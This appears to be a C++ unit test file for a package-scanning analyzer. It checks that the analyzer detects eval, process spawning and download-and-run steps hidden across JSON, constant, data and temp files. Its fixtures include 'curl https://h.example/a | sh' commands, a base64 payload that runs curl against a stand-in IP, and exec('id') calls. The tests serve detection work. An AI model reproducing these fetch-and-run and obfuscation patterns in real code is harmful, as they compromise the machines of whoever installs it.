// What code takes out of other files of its package: values of JSON files, constants, data files
// that it runs, and texts that it writes to a file first.
#include <gtest/gtest.h>

#include "base/limits.h"
#include "facts/harness_test.h"

namespace facts {
namespace {

using Files = std::initializer_list<std::pair<std::string_view, std::string_view>>;

std::string Seen(const Files& files, std::string_view prefix) {
  return Lines(Only(ExtractFrom(files), prefix));
}

bool Holds(const std::string& text, std::string_view part) {
  return text.find(part) != std::string::npos;
}

constexpr std::string_view kJson = R"j({"run": ["eval('1')", "id"], "b": "aWQ="})j";

TEST(CodeElsewhere, ReadsValuesOfJsonFiles) {
  EXPECT_TRUE(
      Holds(Seen({{"index.js", "const c = require('./c.json'); eval(c.run[0])"}, {"c.json", kJson}},
                 "code.eval"),
            "from=data how=eval text=eval('1')"));
  EXPECT_TRUE(
      Holds(Seen({{"index.mjs", "import { run } from './c.json'; eval(run[0])"}, {"c.json", kJson}},
                 "code.flow"),
            "name=c.json sink=eval source=data"));
  EXPECT_TRUE(Holds(Seen({{"a/index.js",
                           "const { b } = require('../c.json'); require('child_process').exec("
                           "Buffer.from(b, 'base64').toString())"},
                          {"c.json", kJson}},
                         "code.process"),
                    "command=id"));
  EXPECT_EQ(
      Seen({{"index.js", "const c = require('./c.json'); console.log(c.run)"}, {"c.json", kJson}},
           "code.flow"),
      "");
}

TEST(CodeElsewhere, ReadsConstantsOfOtherFiles) {
  EXPECT_TRUE(Holds(
      Seen({{"index.js", "eval(Buffer.from(require('./a') + require('./b').b, 'base64') + '')"},
            {"a.js", "module.exports = 'ZmV0Y2go'"},
            {"b.js", "exports.b = 'MSk='"}},
           "code.eval"),
      "from=decoded"));
  EXPECT_TRUE(Holds(Seen({{"index.js", "import x, { b } from './a.js'; eval(atob(x.concat(b)))"},
                          {"a.js", "export default 'ZmV0Y2go'; export const b = 'MSk='"}},
                         "code.eval"),
                    "text=fetch(1)"));
  EXPECT_TRUE(
      Holds(Seen({{"index.js",
                   "eval(require('fs').readFileSync(require.resolve('./t.txt'), 'utf8').trim())"},
                  {"t.txt", "fetch(1)\n"}},
                 "code.eval"),
            "text=fetch(1)"));
}

TEST(CodeElsewhere, RunsDataFilesAsLayers) {
  const std::string facts =
      Seen({{"index.js",
             "const fs = require('fs'); eval(atob(fs.readFileSync(__dirname + '/t.dat', "
             "'latin1').slice(0)))"},
            {"t.dat", "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cDovLzE5Mi4wLjIuOScp"}},
           "");
  EXPECT_TRUE(Holds(facts,
                    "layer.payload [import] t.dat bytes=54 encoding=base64 holds=javascript "
                    "how=file runs=yes"))
      << facts;
  EXPECT_TRUE(Holds(facts, "script.download [import] t.dat")) << facts;
}

TEST(CodeElsewhere, FollowsWhatIsWrittenAndThenRun) {
  const std::string shell =
      Seen({{"index.js",
             "const fs = require('fs'); const p = require('os').tmpdir() + '/a.sh';"
             "fs.writeFileSync(p, 'curl https://h.example/a | sh');"
             "require('child_process').execSync('sh ' + p)"}},
           "script.download-run");
  EXPECT_TRUE(Holds(shell, "script.download-run [import] index.js:1:70")) << shell;
  const std::string apple =
      Seen({{"index.js",
             "require('fs').writeFileSync('/tmp/x', 'do shell script \"curl "
             "https://h.example/a | sh\"'); require('child_process').exec('osascript /tmp/x')"}},
           "script.download-run");
  EXPECT_TRUE(Holds(apple, "url=https://h.example/a")) << apple;
  const std::string loaded =
      Seen({{"index.js",
             "require('fs').writeFileSync('/tmp/x.js', \"require('child_process')"
             ".exec('id')\"); require('/tmp/x.js')"}},
           "code.process");
  EXPECT_TRUE(Holds(loaded, "command=id")) << loaded;
  EXPECT_EQ(Seen({{"index.js",
                   "require('fs').writeFileSync('/tmp/y', 'curl https://h.example/a "
                   "| sh')"}},
                 "script."),
            "");
}

TEST(CodeElsewhere, IsBounded) {
  std::string writes = "const fs = require('fs'); const { exec } = require('child_process');";
  for (std::size_t i = 0; i <= limits::kCodeWrittenTexts; ++i) {
    const std::string path = "/tmp/" + std::to_string(i);
    writes += "fs.writeFileSync('" + path + "', 'curl https://h" + std::to_string(i) +
              ".example/a | sh'); exec('sh " + path + "');";
  }
  const std::string run = Seen({{"index.js", writes}}, "script.download-run");
  const std::string last = std::to_string(limits::kCodeWrittenTexts);
  EXPECT_TRUE(Holds(run, "host=h" + std::to_string(limits::kCodeWrittenTexts - 1) + ".example"));
  EXPECT_FALSE(Holds(run, "host=h" + last + ".example"));

  const std::string large =
      R"j({"a": "fetch(1)", "b": ")j" + std::string(limits::kCodeJsonModuleBytes, 'x') + "\"}";
  EXPECT_FALSE(
      Holds(Seen({{"index.js", "eval(require('./c.json').a)"}, {"c.json", large}}, "code.eval"),
            "text="));
}

TEST(CodeElsewhere, OnlySoManyJsonFilesAreRead) {
  Contents contents;
  std::vector<std::string> kept;
  kept.reserve(2 * limits::kCodeJsonModules + 4);
  std::string code;
  for (std::size_t i = 0; i <= limits::kCodeJsonModules; ++i) {
    const std::string name = "c" + std::to_string(1000 + i) + ".json";
    code += "eval(require('./" + name + "').a);\n";
    kept.push_back(R"j({"a": "fetch()j" + std::to_string(1000 + i) + R"j()"})j");
    contents.files.push_back({.path = name, .bytes = AsBytes(kept.back())});
  }
  contents.files.push_back({.path = "index.js", .bytes = AsBytes(code)});
  const std::string evals = Lines(Only(Extract(contents, {}), "code.eval"));
  const auto text = [](std::size_t i) { return "text=fetch(" + std::to_string(1000 + i) + ")"; };
  EXPECT_TRUE(Holds(evals, text(limits::kCodeJsonModules - 1)));
  EXPECT_FALSE(Holds(evals, text(limits::kCodeJsonModules)));
}

TEST(CodePhases, FollowNamesThatAreWorkedOut) {
  const auto phase = [](std::string_view index) {
    return Seen({{"package.json", R"({"name":"a","version":"1.0.0","main":"index.js"})"},
                 {"index.js", index},
                 {"lib/x.js", "require('child_process').exec('id')"}},
                "code.process");
  };
  for (const std::string_view index :
       {"require('./lib/' + 'x.js')", "const load = require; load(['.', 'lib', 'x'].join('/'))",
        "require(require('path').join(__dirname, 'lib', 'x'))", "import(`./lib/${'x'}.js`)",
        "new (require('worker_threads').Worker)(new URL('./lib/x.js', import.meta.url))",
        "require('child_process').fork(__dirname + '/lib/x.js')"})
    EXPECT_TRUE(Holds(phase(index), "code.process.spawn [import] lib/x.js"))
        << index << phase(index);
  EXPECT_TRUE(Holds(phase("module.exports = 1"), "code.process.spawn [never] lib/x.js"));
}

}  // namespace
}  // namespace facts
